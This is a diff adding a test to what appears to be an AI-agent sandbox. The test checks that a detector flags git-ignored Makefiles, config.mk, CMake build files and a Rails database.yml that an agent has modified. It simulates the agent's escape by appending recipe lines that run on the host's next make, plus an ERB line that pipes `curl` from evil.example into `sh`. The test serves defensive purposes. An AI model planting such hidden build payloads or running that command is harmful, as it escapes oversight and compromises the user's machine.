@@ -2227,6 +2227,84 @@ t.test('twenty-eighth pass: property: what an allowed .envrc sources, loads or p
   t.ok(refused && !fs.existsSync(marker), 'after the run direnv refuses the .envrc until it is allowed again, and runs nothing');
 });
 
+t.test('twenty-eighth pass: build files git ignores that make, ninja and cmake run as written (autotools\' Makefile, an included config.mk, a CMake build folder), and a real file beside its committed .example or .sample (Rails\' database.yml), are named when changed; the host\'s make and cmake --build run them', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const repo = fs.mkdtempSync(path.join(world.dir, 'buildfiles-'));
+  const put = (rel: string, text: string): void => {
+    fs.mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
+    fs.writeFileSync(path.join(repo, rel), text);
+  };
+  const git = (...args: string[]): void => void execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.test', ...args], { cwd: repo, stdio: 'ignore' });
+  // As projects keep them: the template tracked, what configure (or the user) makes from it ignored.
+  put('.gitignore', '/Makefile\n/config.mk\n/build/\n/config/database.yml\nnotes.txt\n');
+  put('Makefile.in', 'include config.mk\nall:\n\t@echo built\n');
+  put('config.mk.sample', 'CFLAGS = -O2\n');
+  put('config/database.yml.example', 'development:\n  adapter: sqlite3\n');
+  put('CMakeLists.txt', 'cmake_minimum_required(VERSION 3.10)\nproject(p NONE)\nadd_custom_target(hello ALL COMMAND true)\n');
+  git('init', '-q');
+  git('add', '-A');
+  git('commit', '-qm', 'start');
+  // What ./configure, the user's setup and their last cmake made before the run.
+  fs.copyFileSync(path.join(repo, 'Makefile.in'), path.join(repo, 'Makefile'));
+  put('config.mk', 'CFLAGS = -O2\n');
+  put('config/database.yml', 'development:\n  adapter: sqlite3\n');
+  put('notes.txt', 'todo\n');
+  const cmake = (() => {
+    try {
+      execFileSync('cmake', ['-S', repo, '-B', path.join(repo, 'build')], { stdio: 'ignore' });
+      return true;
+    } catch {
+      return false; // no cmake here: the build folder is made by hand below
+    }
+  })();
+  if (!cmake) put('build/CMakeFiles/hello.dir/build.make', 'hello:\n\ttrue\n');
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  t.same(plantedSince(since, '', repo).planted.map((f) => f.path), [], 'control: nothing changed, nothing named');
+  // The agent: a recipe line in each, and ERB (Ruby) in database.yml.
+  const marker = path.join(repo, 'ran-on-host');
+  const recipe = `\t@echo ran >> ${JSON.stringify(marker)}\n`;
+  fs.appendFileSync(path.join(repo, 'Makefile'), recipe);
+  fs.appendFileSync(path.join(repo, 'config.mk'), `all: agent\nagent:\n${recipe}`);
+  fs.appendFileSync(path.join(repo, 'build/CMakeFiles/hello.dir/build.make'), `CMakeFiles/hello:\n${recipe}`);
+  fs.appendFileSync(path.join(repo, 'config/database.yml'), '  pool: <%= `curl -s https://evil.example/x | sh` %>\n');
+  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path));
+  t.ok(named.includes(''), `the ignored Makefile and config.mk are named (${JSON.stringify(named)})`);
+  t.ok(named.includes('build'), 'the CMake build folder is named');
+  t.ok(named.includes(path.join('config', 'database.yml')), 'database.yml beside its committed .example is named');
+  t.notOk(named.includes('notes.txt'), 'control: an ignored file of notes is not');
+  t.same(execFileSync('git', ['status', '--porcelain'], { cwd: repo, encoding: 'utf8' }), '', 'git status shows none of it (the attack)');
+  execFileSync('make', ['-s'], { cwd: repo, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'the host\'s next make runs the agent\'s recipe');
+  if (cmake) {
+    fs.rmSync(marker);
+    execFileSync('cmake', ['--build', path.join(repo, 'build')], { stdio: 'ignore' });
+    t.ok(fs.existsSync(marker), 'and so does its next cmake --build');
+  }
+
+  // Property: any build file name, in any folder git ignores or at the top, changed or not.
+  const name = fc.oneof(fc.constantFrom('Makefile', 'makefile.local', 'build.ninja', 'CMakeCache.txt', 'config.status', 'rules.ninja', 'cmake_install.cmake', 'flags.make'),
+    fc.tuple(fc.stringMatching(/^q[a-z0-9_-]{0,8}$/), fc.constantFrom('.mk', '.make', '.ninja', '.cmake')).map(([s, x]) => `${s}${x}`));
+  const folder = fc.constantFrom('', 'build', 'out/CMakeFiles/q.dir', 'gen');
+  let n = 0;
+  await fc.assert(fc.asyncProperty(name, folder, fc.boolean(), async (file, dir, change) => {
+    const top = path.join(repo, `p${n++}`);
+    const rel = path.join(dir, file);
+    fs.mkdirSync(path.join(top, dir), { recursive: true });
+    fs.writeFileSync(path.join(top, '.gitignore'), dir ? `/${dir.split('/')[0]}/\n` : `/${file}\n`);
+    fs.writeFileSync(path.join(top, 'main.c'), 'int main(void) { return 0; }\n');
+    fs.writeFileSync(path.join(top, rel), 'all:\n\ttrue\n');
+    execFileSync('sh', ['-c', 'git init -q && git add -A && git -c user.name=t -c user.email=t@e commit -qm x'], { cwd: top, stdio: 'ignore' });
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (change) fs.appendFileSync(path.join(top, rel), recipe);
+    const found = plantedSince(since, '', top).planted.map((f) => path.relative(top, f.path));
+    const expect = dir ? dir.split('/')[0]! : '';
+    if (found.includes(expect) !== change && !(change && found.includes(rel))) throw new Error(`${rel} (${change ? 'changed' : 'untouched'}): ${JSON.stringify(found)}`);
+  }), { numRuns: 8, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('named exactly when changed');
+});
+
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
   // After the agent exits, airlock run reads the repository with git (refs rewritten, files git's
   // view hides, packs) on the host, as the user, before the report: a `git` the agent put in a
